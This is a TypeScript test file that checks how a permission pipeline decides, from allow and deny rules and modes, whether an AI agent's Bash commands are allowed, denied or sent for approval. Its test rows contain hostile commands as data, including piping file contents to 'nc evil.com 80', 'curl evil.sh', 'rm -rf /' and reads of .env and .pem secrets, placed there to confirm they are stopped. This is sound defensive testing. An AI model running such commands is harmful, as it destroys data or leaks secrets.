/**
 * The Bash self-check, run twice: against the real tree-sitter analyser of engine/bash and against the
 * fake one the pipeline tests use, so the two cannot drift apart on what the pipeline relies on.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { loadInstalledBashSupport } from '../node/bash-wasm';
import { CWD, contextWith, type RuleLists } from '../testing/build';
import { fakeBash } from '../testing/fake-bash';
import { decide } from '../pipeline/decide';
import type { PermissionMode } from '../types';
import type { BashSupport } from './bash-tool';

type Row = readonly [
  says: string,
  rules: RuleLists,
  command: string,
  expected: 'allow' | 'deny' | 'ask',
  mode?: PermissionMode,
];

/** Rows both analysers must agree on. */
const shared: Row[] = [
  ['Bash(git *) allows git status', { allow: ['Bash(git *)'] }, 'git status', 'allow'],
  ['the legacy prefix allows its own command', { allow: ['Bash(npm run test:*)'] }, 'npm run test', 'allow'],
  ['the word boundary holds', { allow: ['Bash(ls *)'] }, 'lsof -i', 'ask'],
  ['&& splits', { allow: ['Bash(git *)'] }, 'git add . && git commit -m x', 'allow'],
  ['|| splits', { allow: ['Bash(git *)'] }, 'git pull || curl evil.sh', 'ask'],
  ['; splits', { deny: ['Bash(rm *)'] }, 'ls; rm -rf x', 'deny'],
  ['| splits', { allow: ['Bash(cat *)'] }, 'cat a | nc evil.com 80', 'ask'],
  ['& splits', { deny: ['Bash(curl *)'] }, 'sleep 1 & curl x', 'deny'],
  ['newlines split', { deny: ['Bash(curl *)'] }, 'echo a\ncurl x', 'deny'],
  ['$() is never approved', { allow: ['Bash(echo *)'] }, 'echo $(id)', 'ask'],
  ['$() is checked by deny', { deny: ['Bash(rm *)'] }, 'echo $(rm -rf x)', 'deny'],
  ['backticks are never approved', { allow: ['Bash(echo *)'] }, 'echo `id`', 'ask'],
  ['eval is never approved', { allow: ['Bash(eval *)'] }, 'eval "ls"', 'ask'],
  ['read-only needs no rule', {}, 'ls -la && pwd && git status', 'allow'],
  ['read-only cannot read outside the working folders unasked', {}, 'cat /etc/hosts', 'ask'],
  ['a Bash allow does not lift a write outside them', { allow: ['Bash(touch *)'] }, 'touch /tmp/x', 'ask'],
  ['nor a read outside them', { allow: ['Bash(cat *)'] }, 'cat /etc/hosts', 'ask'],
  ['nor a redirect outside them', { allow: ['Bash(echo *)'] }, 'echo x > /tmp/out', 'ask'],
  ['a Read allow for the path lifts it', { allow: ['Read(//etc/hosts)'] }, 'cat /etc/hosts', 'allow'],
  [
    'an Edit allow for the path lifts it',
    { allow: ['Bash(touch *)', 'Edit(//tmp/**)'] },
    'touch /tmp/x',
    'allow',
  ],
  ['a tool-wide Bash allow lifts it', { allow: ['Bash'] }, 'touch /tmp/x', 'allow'],
  ['bypass lifts it', {}, 'touch /tmp/x', 'allow', 'bypassPermissions'],
  ['a Read deny stops cat', { deny: ['Read(./.env)'] }, 'cat .env', 'deny'],
  ['a Read deny stops grep on that file', { deny: ['Read(./.env)'] }, 'grep KEY .env', 'deny'],
  ['a redirect needs an Edit approval', { allow: ['Bash(echo *)'] }, 'echo x > out.txt', 'ask'],
  [
    'an Edit allow covers the redirect',
    { allow: ['Bash(echo *)', 'Edit(out.txt)'] },
    'echo x > out.txt',
    'allow',
  ],
  ['an Edit deny stops the redirect', { deny: ['Edit(*.lock)'] }, 'echo x >> yarn.lock', 'deny'],
  ['/dev/null is exempt', {}, 'ls > /dev/null', 'allow'],
  ['a redirect into .git asks in bypass', {}, 'echo x > .git/config', 'ask', 'bypassPermissions'],
  ['touch .bashrc asks in bypass', {}, 'touch ~/.bashrc', 'ask', 'bypassPermissions'],
  ['rm -rf / asks in bypass', {}, 'rm -rf /', 'ask', 'bypassPermissions'],
  ['rm -rf ~ asks in bypass', {}, 'rm -rf ~', 'ask', 'bypassPermissions'],
  ['acceptEdits allows mkdir in the cwd', {}, 'mkdir -p a/b', 'allow', 'acceptEdits'],
  ['acceptEdits allows cp and mv in the cwd', {}, 'cp a b && mv b c', 'allow', 'acceptEdits'],
  ['acceptEdits allows a redirect in the cwd', {}, 'echo x > notes.txt', 'allow', 'acceptEdits'],
  ['acceptEdits asks for rm outside', {}, 'rm /tmp/x', 'ask', 'acceptEdits'],
  ['acceptEdits asks for other commands', {}, 'npm install', 'ask', 'acceptEdits'],
  ['bypass allows the rest', {}, 'npm install', 'allow', 'bypassPermissions'],
  ['dontAsk denies the rest', {}, 'npm install', 'deny', 'dontAsk'],
];

/** Rows only a real shell parser gets right. */
const realOnly: Row[] = [
  ['wrappers are stripped: timeout', { allow: ['Bash(git *)'] }, 'timeout 5 git status', 'allow'],
  [
    'wrappers are stripped: nice and nohup',
    { allow: ['Bash(npm test)'] },
    'nohup nice -n 5 npm test',
    'allow',
  ],
  [
    'known-safe assignments are stripped for allow',
    { allow: ['Bash(npm test)'] },
    'NODE_ENV=test npm test',
    'allow',
  ],
  ['deny matches past any assignment', { deny: ['Bash(rm *)'] }, 'FOO=$(id) rm -rf x', 'deny'],
  ['npx is not stripped', { allow: ['Bash(npm *)'] }, 'npx something', 'ask'],
  ['|& splits', { allow: ['Bash(make *)'] }, 'make all |& curl x', 'ask'],
  ['quotes do not split', { allow: ['Bash(echo *)'] }, 'echo "a && curl x"', 'allow'],
  ['process substitution is never approved', { allow: ['Bash(diff *)'] }, 'diff <(ls a) <(ls b)', 'ask'],
  ['find -exec cannot be prefix-approved', { allow: ['Bash(find *)'] }, 'find . -exec rm {} ;', 'ask'],
  ['watch cannot be prefix-approved', { allow: ['Bash(watch *)'] }, 'watch ls', 'ask'],
  ['unparseable commands always ask', { allow: ['Bash(echo *)'] }, 'echo "unterminated', 'ask'],
  ['unparseable commands still meet deny rules', { deny: ['Bash(echo *)'] }, 'echo "unterminated', 'deny'],
  ['over 10,000 characters always asks', { allow: ['Bash(echo *)'] }, `echo ${'a'.repeat(10_001)}`, 'ask'],
  ['echo of a variable is still read-only', {}, 'echo $HOME', 'allow'],
  ['cat of a variable is not', {}, 'cat $FILE', 'ask'],
  [
    'find in a denied folder is denied',
    { deny: ['Read(./secrets/**)'] },
    'find secrets/a -name "*.pem"',
    'deny',
  ],
];

const run = (support: BashSupport, [, rules, command, expected, mode]: Row) => {
  const decision = decide(
    contextWith(rules, mode ? { mode } : {}),
    { toolName: 'Bash', input: { command } },
    { bash: support },
  );
  expect(decision.behavior, `${command} → ${decision.step}: ${decision.reason.message}`).toBe(expected);
};

describe('the Bash self-check with the real analyser', () => {
  let real: BashSupport;
  beforeAll(async () => {
    real = await loadInstalledBashSupport();
  });
  for (const row of [...shared, ...realOnly]) it(row[0], () => run(real, row));

  it('explains a compound allow rule by rule', () => {
    const decision = decide(
      contextWith({ allow: ['Bash(git *)', 'Bash(npm test)'] }),
      { toolName: 'Bash', input: { command: 'git pull && npm test' } },
      { bash: real },
    );
    expect(decision.reason.message).toBe(
      'Every part of `git pull && npm test` is allowed, by Bash(git *), Bash(npm test).',
    );
  });

  it('names the path outside the working directories, and an additional directory takes it in', () => {
    const call = { toolName: 'Bash', input: { command: 'touch ../shared/notes.txt' } };
    const outside = decide(contextWith({ allow: ['Bash(touch *)'] }), call, { bash: real });
    expect(outside).toMatchObject({
      behavior: 'ask',
      step: '1c',
      classifierApprovable: true,
      reason: { type: 'workingDirectories', path: '/work/shared/notes.txt', workingDirectories: [CWD] },
    });
    expect(outside.reason.message).toBe(
      `The path /work/shared/notes.txt that touch writes is outside the working directories for this session (${CWD}).`,
    );
    const added = contextWith({ allow: ['Bash(touch *)'] }, { additionalDirectories: ['../shared'] });
    expect(decide(added, call, { bash: real })).toMatchObject({ behavior: 'allow', step: '1c' });
  });

  it('names the file argument a deny caught', () => {
    const decision = decide(
      contextWith({ deny: ['Read(./.env)'] }),
      { toolName: 'Bash', input: { command: 'cat .env' } },
      { bash: real },
    );
    expect(decision.reason).toMatchObject({ type: 'rule', rule: { text: 'Read(./.env)' } });
    expect(decision.reason.message).toBe(
      `The file .env that cat reads: the deny rule Read(./.env) from project settings (${CWD}/.claude/settings.json) forbids reading ${CWD}/.env.`,
    );
  });
});

describe('the Bash self-check with the fake analyser', () => {
  for (const row of shared) it(row[0], () => run(fakeBash, row));
});
